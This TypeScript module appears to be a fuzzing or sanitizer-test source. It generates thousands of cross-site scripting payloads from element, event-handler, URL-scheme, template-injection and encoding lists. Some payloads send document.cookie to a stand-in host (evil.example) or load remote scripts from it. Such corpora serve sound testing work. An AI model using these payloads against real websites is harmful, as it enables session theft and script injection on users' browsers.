/** Actions of a script: each opens a dialog, sends a request to a third party, or both. */
const ACTIONS = [
  "alert(1)",
  "alert(document.domain)",
  "alert`1`",
  "(alert)(1)",
  "window['al'+'ert'](1)",
  "[1].map(alert)",
  "confirm(1)",
  "prompt(1)",
  "import('//evil.example/m.js')",
  "fetch('//evil.example/?'+document.cookie)",
  "location='//evil.example/'",
  "setTimeout('alert(1)')",
] as const;

/** Endings of the context of a text: an attribute, an element whose content is text, a comment, a script. */
const ENDS = [
  "",
  '">',
  "'>",
  "`>",
  '\\">',
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "</template>",
  "</svg></math>",
  "</select></option>",
  "</bdi></a></h3></article>",
  "--!>",
  "-->",
  "]]>",
  "*/;}",
] as const;

/** Elements that run an action, or have it asked for; `A` is the action. */
const ELEMENTS = [
  "<script>A</script>",
  "<script>A//",
  "<script src=//evil.example/x.js></script>",
  "<script/x>A</script x>",
  "<img src=x onerror=A>",
  "<img/src=`x`/onerror=A>",
  "<image src=x onerror=A>",
  "<img srcset=x onerror=A>",
  "<svg onload=A>",
  "<svg/onload=A//",
  "<svg><script>A</script></svg>",
  "<svg><animate onbegin=A attributeName=x dur=1s>",
  "<svg><set onbegin=A attributeName=x>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=A/>#x'>",
  "<svg><foreignObject><iframe srcdoc='<script>A</script>'>",
  "<svg><a href='javascript:A'><text y=20>text</text></a></svg>",
  "<math><mtext><mglyph><style></math><img src onerror=A>",
  "<math href='javascript:A'>text</math>",
  "<body onload=A>",
  "<body onpageshow=A>",
  "<iframe src='javascript:A'></iframe>",
  "<iframe srcdoc='<script>parent.A</script>'></iframe>",
  "<object data='javascript:A'></object>",
  "<embed src='javascript:A'>",
  "<details open ontoggle=A>",
  "<dialog open onclose=A>",
  "<input autofocus onfocus=A>",
  "<select autofocus onfocus=A>",
  "<video src=x onerror=A>",
  "<video><source onerror=A></video>",
  "<audio src=x onloadstart=A>",
  "<marquee onstart=A>text</marquee>",
  "<style onload=A></style>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>a{background:url('#\\3c/style\\3e\\3cimg src=x onerror=A\\3e')}</style>",
  "<svg><style><![CDATA[</style><img src=x onerror=A>]]></style></svg>",
  "<link rel=stylesheet href=//evil.example/x.css onload=A>",
  "<meta http-equiv=refresh content='0;url=javascript:A'>",
  "<base href='javascript:A//'>",
  "<form action='javascript:A'><input type=submit autofocus></form>",
  "<button formaction='javascript:A' autofocus>text</button>",
  "<a href='javascript:A'>text</a>",
  "<a href='data:text/html,<script>A</script>'>text</a>",
  "<div style='animation:x 1s' onanimationstart=A>",
  "<div style=\"background:url('javascript:A')\">",
  "<x contenteditable autofocus onfocus=A>",
  "<x onpointerenter=A style='position:fixed;inset:0'>text</x>",
  "<template shadowrootmode=open><script>A</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=A>">',
  '<xmp><p title="</xmp><img src=x onerror=A>">',
  '<!--<img src="--><img src=x onerror=A//">',
  "<![CDATA[><script>A</script>]]>",
  "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>A</script></x>",
  "<portal src='javascript:A'>",
] as const;

/** Attributes that run an action, behind a quote that ends the one before. */
const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "onpointerenter",
  "onanimationstart",
  "ontransitionend",
  "onbeforetoggle",
  "oncontentvisibilityautostatechange",
  "onscrollend",
  "onwheel",
  "oncopy",
] as const;
const QUOTES = ['"', "'", "`", '\\"', "\\'", ""] as const;

/** Addresses that are script; `A` is the action. */
const ADDRESSES = [
  "javascript:A",
  "JaVaScRiPt:A",
  " \u0001javascript:A",
  "java\tscript:A",
  "java\nscript:A",
  "java\rscript:A",
  "javascript\t:A",
  "javascript&colon;A",
  "javascript&#58;A",
  "&#106;avascript:A",
  "&#x6A&#x61vascript:A",
  "javascript://%0aA",
  "javascript://example.org/%0d%0aA",
  "javascript:/*http://example.org/*/A",
  "view-source:javascript:A",
  "vbscript:A",
  "data:text/html,<script>A</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=A xmlns='http://www.w3.org/2000/svg'/>",
  "blob:http://example.org/A",
  "[text](javascript:A)",
  "![text](//evil.example/x.png)",
  "<javascript:A>",
] as const;

/** What template languages and code would take for their own. */
const TEMPLATES = [
  "{{constructor.constructor('A')()}}",
  "{{$on.constructor('A')()}}",
  "${A}",
  "#{A}",
  "<%= A %>",
  "@{A}",
  "[[${A}]]",
  "{!A!}",
  "';A;//",
  '";A;//',
  "\\';A;//",
  "`+A+`",
  "\u2028A//\u2029",
  "*/A/*",
  "expression(A)",
  "x;background:url(javascript:A)",
] as const;

const entities = (text: string, write: (code: number) => string): string =>
  Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join("");

/** The ways in which a text may be written so that a reader who decodes once too often reads the text itself. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/[<>"'&]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll(/[<>]/g, (sign) => `&amp;${sign === "<" ? "lt" : "gt"};`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll(/[<>"']/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll(/[<>"']/g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`),
  (text) =>
    entities(text, (code) =>
      code > 0x20 && code < 0x7f ? String.fromCodePoint(code + 0xfee0) : String.fromCodePoint(code),
    ),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll(/(?<=<)\w+/g, (name) => name.toUpperCase()),
  (text) => text.replaceAll(/<(\w)/g, "<\u0001$1"),
  (text) => text.replaceAll(/ (?=on)/g, "\u000c"),
  (text) => text.replaceAll("<", "<\u200b"),
];

/**
 * Texts that run script, or ask a third party, wherever they are taken for more than text: some thousands, each once. Made of
 * elements, attributes, addresses and templates, of what ends the place that they stand in, and of encodings.
 */
export const scriptPayloads: readonly string[] = [...new Set(combined())];

function* combined(): Generator<string> {
  let made = 0;
  const act = (text: string): string => text.replaceAll(/(?<!\w)A(?!\w)/g, () => ACTIONS[made % ACTIONS.length] ?? "");
  const attributes = QUOTES.flatMap((quote) =>
    HANDLERS.map((name) => `x${quote} autofocus tabindex=1 ${name}=${quote}A${quote} x=${quote}`),
  );
  const placed = ENDS.flatMap((end) => ELEMENTS.map((element) => end + element));
  for (const text of [...placed, ...attributes, ...ADDRESSES, ...TEMPLATES]) {
    made++;
    // As it is, and in some of the encodings, so that over all of them each meets each.
    yield act(text);
    for (let n = 0; n < 4; n++) yield (ENCODINGS[(made * 4 + n) % ENCODINGS.length] ?? String)(act(text));
  }
}

/** A selection with all kinds. */
export const someScriptPayloads: readonly string[] = scriptPayloads.filter((_, n) => n % 46 === 0);
